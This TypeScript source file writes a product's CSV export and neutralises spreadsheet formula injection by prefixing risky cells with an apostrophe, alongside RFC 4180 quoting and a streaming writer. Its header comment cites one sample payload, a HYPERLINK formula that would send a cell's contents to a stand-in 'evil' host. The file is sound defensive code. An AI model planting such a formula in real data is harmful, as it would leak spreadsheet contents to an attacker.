/**
 * CSV as the product writes it, and the one rule every CSV writer uses for cells (`csvCell`).
 *
 * Spreadsheet formula injection (OWASP "CSV Injection"): a cell that starts with `=`, `+`, `-`,
 * `@` (also after spaces or a line break, and their full-width forms `＝ ＋ － ＠`), a tab, a
 * carriage return or a line feed is run as a formula when the file is opened in a spreadsheet,
 * so a guest name or receipt ref such as `=HYPERLINK("https://evil/?"&A1)` would act on the
 * insurer's machine. Such a cell is written with a leading apostrophe (shown as text, never run).
 * Plain numbers (`-12.50`, `+3`) stay as they are. A value that already starts with apostrophes
 * followed by one of those characters gets one more, so the rule is reversible: `csvValue` gives
 * back exactly the ledger's value, which is what the offline verifier hashes.
 */
import type { Writable } from 'node:stream';
import { LINE_COLUMNS, type Cell } from './lines.js';
import { write } from './sink.js';

const FORMULA_START = /^'*(?:\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;
const NEEDS_QUOTES = /[",\r\n]/;

/** True when a spreadsheet could read `value` as a formula, so it is written with a leading apostrophe. */
export function needsNeutralising(value: string): boolean {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value);
}

/** The text of a cell before CSV quoting: the value, or the value after an apostrophe. */
export function neutralise(value: string): string {
  return needsNeutralising(value) ? `'${value}` : value;
}

/** The ledger's value of a cell read back from a CSV this product wrote (undoes `neutralise`). */
export function csvValue(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) && !PLAIN_NUMBER.test(cell.slice(1)) ? cell.slice(1) : cell;
}

/** One CSV field: neutralised against formula injection, then quoted (RFC 4180) when needed. */
export function csvCell(v: Cell): string {
  if (v === null) return '';
  if (typeof v === 'number') return String(v);
  const text = neutralise(v);
  return NEEDS_QUOTES.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record, CRLF-terminated. */
export function csvRow(values: readonly Cell[]): string {
  let line = csvCell(values[0] ?? null);
  for (let i = 1; i < values.length; i++) line += `,${csvCell(values[i]!)}`;
  return `${line}\r\n`;
}

/**
 * Every line of the export as CSV, written a page at a time with backpressure (flat memory at any
 * size). The export service feeds it the same values it gives the spreadsheet's Lines sheet.
 */
export class CsvWriter {
  /** Rows since the last flush, joined once (a flat string encodes faster than a long += chain). */
  private rows: string[] = [csvRow([...LINE_COLUMNS])];

  constructor(private readonly out: Writable) {}

  add(values: Cell[]): void {
    this.rows.push(csvRow(values));
  }

  /** Write what was added since the last flush (call once per page). */
  async flush(): Promise<void> {
    if (this.rows.length === 0) return;
    const chunk = this.rows.join('');
    this.rows = [];
    await write(this.out, chunk);
  }

  async end(): Promise<void> {
    await this.flush();
    this.out.end();
  }
}
